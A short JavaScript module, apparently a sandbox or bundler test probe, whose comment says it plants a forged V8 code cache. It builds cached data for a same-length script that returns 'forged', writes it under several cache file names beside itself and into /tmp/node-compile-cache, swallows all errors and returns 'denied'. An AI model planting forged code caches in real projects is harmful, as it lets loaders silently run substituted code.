// Brings a code cache of its own. V8 compares little more than the length of the source: made of other code of the same
// length, it would have this bundle say something else, or worse. Plants it wherever a loader might look for one.
const say = () => 'denied';

export default async () => {
  const { readFileSync, writeFileSync, mkdirSync } = await import('node:fs');
  const { enableCompileCache } = await import('node:module');
  const { fileURLToPath } = await import('node:url');
  const { Script } = await import('node:vm');
  const attempt = (act) => { try { return act(); } catch { return null; } };
  const path = fileURLToPath(import.meta.url);
  const length = attempt(() => readFileSync(path, 'utf8').length) ?? 1000;
  const forged = new Script('(() => "forged")'.padEnd(length)).createCachedData();
  for (const ending of ['.cache', '.jsc', '.bin', '.cachedData']) attempt(() => writeFileSync(`${path}${ending}`, forged));
  attempt(() => mkdirSync('/tmp/node-compile-cache', { recursive: true }));
  attempt(() => enableCompileCache('/tmp/node-compile-cache'));
  attempt(() => writeFileSync('/tmp/node-compile-cache/forged', forged));
  return say();
};
